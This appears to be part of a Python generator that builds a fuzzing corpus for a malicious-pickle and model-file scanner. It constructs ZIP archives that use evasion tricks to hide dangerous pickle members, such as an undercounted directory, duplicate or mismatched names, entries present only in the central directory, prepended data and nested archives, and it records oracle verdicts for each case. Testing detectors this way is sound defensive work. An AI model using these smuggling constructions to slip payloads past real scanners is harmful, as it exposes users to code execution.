        lname = e.get('local_name', e['name']).encode('utf-8')
        offset = len(out) - base if e.get('relative', True) else len(out)
        csize, usize = len(comp), len(data)
        out += struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, flags, method, 0, 0x21, crc, csize, usize, len(lname), 0) + lname + comp
        if name in cd_only:
            continue
        central += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, flags, method, 0, 0x21, crc, csize, usize, len(name), 0, 0,
                               0, 0, 0, offset) + name
    cd_off = len(out) - base
    out += central
    count = max(0, len(entries) - len(cd_only) + eocd_delta) & 0xFFFF
    if zip64:
        z64 = len(out) - base
        out += struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, count, count, len(central), cd_off)
        out += struct.pack('<IIQI', 0x07064b50, 0, z64, 1)
        out += struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, len(comment)) + comment
    else:
        out += struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, count, count, len(central), cd_off, len(comment)) + comment
    return bytes(out)


ZIP_NAMES = ['archive/data.pkl', 'data.pkl', 'model/data.pkl', 'payload.pkl', 'x.bin', 'a.txt', 'inner.pkl', 'weights.npy',
             'archive/version', 'archive/data/0', 'config.json', 'model.joblib', 'sub/dir/evil.pkl', 'README']


def _member_data(rng):
    r = rng.random()
    if r < 0.4:
        return malicious_stream(rng)
    if r < 0.7:
        return gen_benign(rng)
    if r < 0.8:
        return gen_real_dangerous(rng)
    if r < 0.9:
        return b'3\n' if rng.random() < 0.5 else b'{"a": 1}'
    return bytes(rng.randrange(256) for _ in range(rng.randrange(64)))


def _zinfo(name, method):
    info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))  # fixed: the corpus must be reproducible
    info.compress_type = method
    return info


def _pe_member(rng):
    mz = bytearray(b'MZ' + b'\x00' * 62)
    struct.pack_into('<I', mz, 60, rng.choice([0x7FFFFFF0, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF, 64]))
    return bytes(mz) + b'PE\x00\x00' + bytes(rng.randrange(256) for _ in range(32))


def gen_zip(rng):
    kind = rng.randrange(13)
    names = rng.sample(ZIP_NAMES, rng.randrange(1, 4))
    entries = [{'name': nm, 'data': _member_data(rng), 'method': rng.choice([0, 0, 8])} for nm in names]
    kw = {}
    tag = 'zip_plain'
    if kind == 0:
        buf = io.BytesIO()
        method = rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
        with zipfile.ZipFile(buf, 'w') as z:
            for e in entries:
                z.writestr(_zinfo(e['name'], method), e['data'])
        return 'zip_zipfile', buf.getvalue()
    if kind == 1:
        tag = 'zip_eocd_undercount'
        entries.append({'name': 'hidden.pkl', 'data': malicious_stream(rng)})
        kw['eocd_delta'] = -rng.randrange(1, len(entries) + 1)
    elif kind == 2:
        tag = 'zip_junk_between'
        entries.append({'name': 'evil.pkl', 'data': malicious_stream(rng)})
        kw['junk'] = rng.choice([b'JUNK', b'\x00' * 7, malicious_stream(rng), b'PK\x03\x04junk'])
    elif kind == 3:
        tag = 'zip_prepended'
        kw['prepend'] = rng.choice([malicious_stream(rng), gen_benign(rng), b'GIF89a' + b'\x00' * 20, b'\x00' * rng.randrange(1, 100)])
        for e in entries:
            e['relative'] = rng.random() < 0.5
    elif kind == 4:
        tag = 'zip_duplicate'
        entries.append({'name': entries[0]['name'], 'data': malicious_stream(rng)})
        if rng.random() < 0.5:
            entries.reverse()
    elif kind == 5:
        tag = 'zip_name_mismatch'
        entries[0]['local_name'] = rng.choice(['other.txt', entries[0]['name'] + 'x', 'archive/data.pkl'])
        entries[0]['data'] = malicious_stream(rng)
    elif kind == 6:
        tag = 'zip_bad_crc'
        entries[0]['data'] = malicious_stream(rng)
        entries[0]['crc'] = rng.randrange(2**32)
    elif kind == 7:
        tag = 'zip_flags'
        entries[0]['flags'] = rng.choice([0x1, 0x8, 0x20, 0x40, 0x800, 0x2000, 0xFFFF, 0x6])
        entries[0]['data'] = malicious_stream(rng)
    elif kind == 8:
        tag = 'zip_zip64'
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, 'w', allowZip64=True) as z:
            for e in entries:
                with z.open(_zinfo(e['name'], zipfile.ZIP_STORED), 'w', force_zip64=True) as fh:
                    fh.write(e['data'])
        data = buf.getvalue()
        if rng.random() < 0.5:
            data = build_zip(entries, zip64=True)
        return tag, data
    elif kind == 9:
        tag = 'zip_pe_member'
        entries.insert(0, {'name': rng.choice(['a.exe', 'model.dll', 'x.bin']), 'data': _pe_member(rng)})
        entries.append({'name': 'evil.pkl', 'data': malicious_stream(rng)})
    elif kind == 10:
        tag = 'zip_binbytes8_huge'
        big = b'\x80\x04\x8e' + struct.pack('<Q', rng.choice([2**63 - 1, 2**63 - 8, 2**62, 2**64 - 1])) + b'abc.'
        entries.insert(0, {'name': 'archive/data.pkl', 'data': big})
        entries.append({'name': 'evil.pkl', 'data': malicious_stream(rng)})
    elif kind == 11:
        tag = 'zip_cd_only_missing'
        entries.append({'name': 'ghost.pkl', 'data': malicious_stream(rng)})
        kw['cd_only'] = (b'ghost.pkl',)
    else:
        tag = 'zip_nested'
        inner = build_zip([{'name': 'inner.pkl', 'data': malicious_stream(rng)}])
        entries.append({'name': 'inner.zip', 'data': inner})
    return tag, build_zip(entries, **kw)


# ---- driver -------------------------------------------------------------------------------------------------------

GENERATORS = [
    ('real_dangerous', 12), ('benign', 10), ('grammar', 18), ('numeric', 8), ('long_text', 3), ('magic', 7), ('concat', 8),
    ('memo_reuse', 5), ('fixture_mutation', 14), ('zip', 15), ('frame_split', 3),
]


def make_case(seed, i, max_size):
    rng = random.Random('%d:%d' % (seed, i))
    total = sum(w for _, w in GENERATORS)
    x = rng.randrange(total)
    for gen, w in GENERATORS:
        if x < w:
            break
        x -= w
    name = rng.choice(['model.pkl', 'model.pkl', 'pytorch_model.bin', 'x.pt', 'data.dat', 'weights', 'model.joblib', 'a.npy', 'model.ckpt'])
    if gen == 'real_dangerous':
        data = gen_real_dangerous(rng)
    elif gen == 'benign':
        data = gen_benign(rng)
    elif gen == 'grammar':
        data = grammar_walk(rng)
    elif gen == 'numeric':
        data = gen_numeric(rng)
    elif gen == 'long_text':
        data = gen_long_text(rng)
    elif gen == 'magic':
        data = gen_magic(rng)
    elif gen == 'concat':
        data = gen_concat(rng)
    elif gen == 'memo_reuse':
        data = gen_memo_reuse(rng)
    elif gen == 'frame_split':
        data = gen_frame_split(rng)
    elif gen == 'fixture_mutation':
        fname, data = gen_fixture_mutation(rng)
        gen = 'fixture_mutation:' + fname
        name = fname if rng.random() < 0.7 else name
    else:
        gen, data = gen_zip(rng)
        name = rng.choice(['model.pt', 'archive.zip', 'x.npz', 'model.keras', 'pytorch_model.bin', 'm.pth'])
    if len(data) > max_size:
        data = data[:max_size]
    return {'id': 's%d-%d' % (seed, i), 'gen': gen, 'name': name, 'data': data}


def oracle_case(case):
    data = case['data']
    py, c = pickle_oracle(data)
    z = zip_oracle(data)
    return {'id': case['id'], 'kind': 'zip' if z is not None else 'pickle', 'gen': case['gen'], 'name': case['name'],
            'data': base64.b64encode(data).decode('ascii'), 'py': py, 'c': c, 'zip': z}


def _limit_resources():
    try:
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
    except Exception:  # noqa: BLE001
        pass
    sys.setrecursionlimit(3000)


def _on_alarm(signum, frame):
    raise TimeoutError('case took too long')


def _work(args):
    seed, start, stop, max_size = args
    lines = []
    for i in range(start, stop):
        case = make_case(seed, i, max_size)
        signal.signal(signal.SIGALRM, _on_alarm)
        signal.alarm(10)
        try:
            rec = oracle_case(case)
        except (MemoryError, TimeoutError):
            continue
        finally:
            signal.alarm(0)
        lines.append(json.dumps(rec, ensure_ascii=True, separators=(',', ':')))
    return lines


def cmd_generate(a):
    _limit_resources()
    chunks = [(a.seed, s, min(a.cases, s + 500), a.max_size) for s in range(0, a.cases, 500)]
    raw = open(a.out, 'wb')
    gz = gzip.GzipFile(filename='', mode='wb', fileobj=raw, mtime=0, compresslevel=9 if a.cases <= 20000 else 4)
    with raw, gz, io.TextIOWrapper(gz, encoding='ascii') as out:
        if a.jobs > 1:
            import multiprocessing
            with multiprocessing.Pool(a.jobs, initializer=_limit_resources) as pool:
                for lines in pool.imap(_work, chunks):
                    for line in lines:
                        out.write(line + '\n')
        else:
            for ch in chunks:
                for line in _work(ch):
                    out.write(line + '\n')


def cmd_check_one(a):
    _limit_resources()
    with open(a.file, 'rb') as fh:
        data = fh.read()
    rec = oracle_case({'id': 'file', 'gen': 'file', 'name': os.path.basename(a.file), 'data': data})
    del rec['data']
    print(json.dumps(rec, indent=1))


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest='cmd', required=True)
    g = sub.add_parser('generate')
    g.add_argument('--cases', type=int, required=True)
    g.add_argument('--seed', type=int, required=True)
    g.add_argument('--out', required=True)
    g.add_argument('--jobs', type=int, default=1)
    g.add_argument('--max-size', type=int, default=64 << 10)
    c = sub.add_parser('check-one')
    c.add_argument('file')
    a = p.parse_args()
    if a.cmd == 'generate':
        cmd_generate(a)
    else:
        cmd_check_one(a)


if __name__ == '__main__':
    main()
